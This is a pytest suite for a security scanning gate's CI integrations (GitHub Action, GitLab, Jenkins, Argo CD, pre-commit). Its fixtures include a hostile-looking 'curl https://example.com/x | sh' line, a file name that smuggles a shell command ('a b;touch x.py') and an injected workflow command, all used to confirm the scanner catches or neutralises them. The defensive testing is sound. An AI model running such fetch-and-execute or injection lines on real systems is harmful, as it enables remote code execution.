"""The files that bring a gate into other systems: linted by their own tools and ours, and run as far as that goes."""

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from mlsec_nb import scan
from mlsec_nb.cli import entry
from mlsec_nb.core import Severity

ROOT = Path(__file__).parents[2]
FOLDER = ROOT / "mlsec_nb" / "policy" / "integrations"
GOOD = "import json\nprint(json.dumps({}))\n"
BAD = "import os, sys\nos.system('curl https://example.com/x | sh')\n"


def steps() -> list[dict]:
    return yaml.safe_load((ROOT / "action.yml").read_text(encoding="utf-8"))["runs"]["steps"]


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    """A project, and programs that stand for what a runner has: `mlsec` (the real one) and `gh` (which records)."""
    (tmp_path / "bin").mkdir()
    (tmp_path / "runner").mkdir()
    work = tmp_path / "work"
    work.mkdir()
    (work / "mlsec.toml").write_text('[gates.ci]\nchecks = ["code"]\n', encoding="utf-8")
    for name, text in {
        "mlsec": f'#!/bin/sh\nexec "{sys.executable}" -m mlsec_nb "$@"\n',
        "gh": f'#!/bin/sh\necho "$@" > "{tmp_path}/gh.args"\ncat > "{tmp_path}/gh.body"\n',
    }.items():
        program = tmp_path / "bin" / name
        program.write_text(text, encoding="utf-8")
        program.chmod(0o755)
    return work


def environment(work: Path, **more: str) -> dict[str, str]:
    root = work.parent
    files = {name: str(root / "runner" / name) for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY")}
    return {
        **os.environ, "PYTHONPATH": str(ROOT), "PATH": f"{root / 'bin'}:{os.environ['PATH']}", "RUNNER_TEMP": str(root / "runner"),
        "GITHUB_REPOSITORY": "a/b", "GITHUB_SHA": "0" * 40, "GITHUB_REF": "refs/heads/main", **files, **more,
    }  # fmt: skip


def act(work: Path, **inputs: str) -> list[subprocess.CompletedProcess[str]]:
    """Runs the steps of the action as a runner does: conditions, inputs, outputs, and no step after one that failed."""
    text = yaml.safe_load((ROOT / "action.yml").read_text(encoding="utf-8"))
    given = {name: table["default"] for name, table in text["inputs"].items()} | inputs
    outputs: dict[str, str] = {}
    done: list[subprocess.CompletedProcess[str]] = []

    def resolved(value: str) -> str:
        names = {f"inputs.{key}": found for key, found in given.items()} | {
            f"steps.gate.outputs.{key}": v for key, v in outputs.items()
        }
        names |= {"github.token": "t", "github.action_path": str(ROOT)}
        return re.sub(r"\$\{\{\s*(.*?)\s*\}\}", lambda m: names.get(m[1], ""), value)

    for step in steps():
        condition = step.get("if", "")
        if (condition == "inputs.command == ''" and given["command"]) or (
            condition.startswith("inputs.upload") and given["upload"] != "true"
        ):
            continue
        env = environment(work, **{key: resolved(value) for key, value in step.get("env", {}).items()})
        command = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]]
        done.append(subprocess.run(command, cwd=work, env=env, capture_output=True, text=True, check=False))
        written = work.parent / "runner" / "GITHUB_OUTPUT"
        if written.exists():
            outputs |= dict(line.split("=", 1) for line in written.read_text(encoding="utf-8").splitlines())
        if done[-1].returncode:
            break
    return done


@pytest.mark.parametrize(("text", "code"), [(GOOD, 0), (BAD, 1)])
def test_the_action_passes_what_is_clean_and_stops_what_is_not(workspace, text, code):
    (workspace / "a.py").write_text(text, encoding="utf-8")
    done = act(workspace, command="mlsec")
    assert done[-1].returncode == code, done
    summary = (workspace.parent / "runner" / "GITHUB_STEP_SUMMARY").read_text(encoding="utf-8")
    assert "### mlsec gate: ci" in summary
    assert ("passed" if code == 0 else "failed") in summary.lower()


def test_the_action_is_undecided_when_a_check_did_not_run(workspace):
    (workspace / "mlsec.toml").write_text('[gates.ci]\nchecks = ["code", "nonesuch"]\n', encoding="utf-8")
    assert act(workspace, command="mlsec")[-1].returncode == 2
    shutil.rmtree(workspace.parent / "bin")
    assert act(workspace, command="mlsec")[-1].returncode not in (0, 1)


@pytest.mark.slow
def test_the_action_takes_targets_and_options_as_they_are_written(workspace):
    (workspace / "a b;touch x.py").write_text(BAD, encoding="utf-8")
    (workspace / "good.py").write_text(GOOD, encoding="utf-8")
    assert act(workspace, command="mlsec", targets="good.py\n", options="--fail-on=low\n")[-1].returncode == 0
    assert act(workspace, command="mlsec", targets="good.py\na b;touch x.py")[-1].returncode == 1
    assert not (workspace / "x.py").exists()


def test_the_action_uploads_sarif_and_neutralises_commands_in_what_was_scanned(workspace):
    (workspace / "a.py").write_text(BAD + "# ::set-output name=x::y\n", encoding="utf-8")
    done = act(workspace, command="mlsec", upload="true")
    first = done[0].stdout.splitlines()
    assert first[0].startswith("::stop-commands::")
    assert first[-1] == f"::{first[0].rpartition('::')[2]}::"
    assert "repos/a/b/code-scanning/sarifs" in (workspace.parent / "gh.args").read_text(encoding="utf-8")
    assert (workspace.parent / "gh.body").stat().st_size > 100
    assert done[-1].returncode == 1
    sarif = json.loads((workspace.parent / "runner" / "mlsec.sarif").read_text(encoding="utf-8"))
    assert sarif["runs"][0]["results"]


def test_the_action_is_clean_for_its_own_linter():
    program = Path(sys.executable).parent / "zizmor"
    done = subprocess.run([str(program), "--offline", "--no-progress", "--persona=pedantic", str(ROOT / "action.yml")],
                          capture_output=True, text=True, check=False)  # fmt: skip
    assert done.returncode == 0, done.stdout


def test_the_action_and_the_gitlab_job_are_what_their_schemas_ask_for(tmp_path):
    _, job = (FOLDER / "gitlab.yml").read_text(encoding="utf-8").split("\n---\n")
    (tmp_path / "job.yml").write_text(job, encoding="utf-8")
    for schema, file in (("github-actions", ROOT / "action.yml"), ("gitlab-ci", tmp_path / "job.yml")):
        argv = [sys.executable, "-m", "check_jsonschema", "--builtin-schema", f"vendor.{schema}", str(file)]
        more = ["--data-transform", "gitlab-ci"] if schema == "gitlab-ci" else []
        done = subprocess.run([*argv, *more], capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stdout


@pytest.mark.parametrize("path", [ROOT / "action.yml", *sorted(FOLDER.iterdir())], ids=lambda path: path.name)
def test_our_own_rules_find_nothing(path):
    report = scan(str(path), only=("infrastructure",))
    assert [found for found in report.new if found.severity.at_least(Severity.LOW)] == []


@pytest.mark.slow
def test_the_gitlab_job_runs(workspace):
    _, job = yaml.safe_load_all((FOLDER / "gitlab.yml").read_text(encoding="utf-8"))
    (workspace / "a.py").write_text(BAD, encoding="utf-8")
    script = "\n".join(job["mlsec-gate"]["script"])
    done = subprocess.run(
        ["bash", "-e", "-c", script],
        cwd=workspace,
        env=environment(workspace, GATE="ci"),
        capture_output=True,
        check=False,
    )
    assert done.returncode == 1
    quality = json.loads(
        (workspace / job["mlsec-gate"]["artifacts"]["reports"]["codequality"]).read_text(encoding="utf-8")
    )
    assert {"check_name", "fingerprint", "severity", "location"} <= set(quality[0])


@pytest.mark.slow
def test_the_jenkins_stage_runs(workspace):
    text = (FOLDER / "Jenkinsfile").read_text(encoding="utf-8")
    assert text.count("{") == text.count("}")
    install, gate = re.findall(r"sh '([^']*)'", text)
    assert "pip install" in install
    (workspace / "a.py").write_text(GOOD, encoding="utf-8")
    done = subprocess.run(
        ["sh", "-e", "-c", gate], cwd=workspace, env=environment(workspace), capture_output=True, check=False
    )
    assert done.returncode == 0, done.stderr
    assert "<testsuite" in (workspace / "mlsec.junit.xml").read_text(encoding="utf-8")


def test_argo_cd_runs_the_gate_before_it_applies_anything():
    job = yaml.safe_load((FOLDER / "argocd-presync.yaml").read_text(encoding="utf-8"))
    assert job["metadata"]["annotations"]["argocd.argoproj.io/hook"] == "PreSync"
    assert job["spec"]["backoffLimit"] == 0
    (container,) = job["spec"]["template"]["spec"]["containers"]
    program, command, *words = container["args"]
    assert program == "mlsec"
    assert entry.parser(command).parse_args(words).gate == "deploy"


def test_the_hook_of_the_gate_names_a_command_that_exists():
    hooks = {hook["id"]: hook for hook in yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))}
    _, command, *words = hooks["mlsec-gate"]["entry"].split()
    assert entry.parser(command).parse_args(words).gate == "pre-commit"
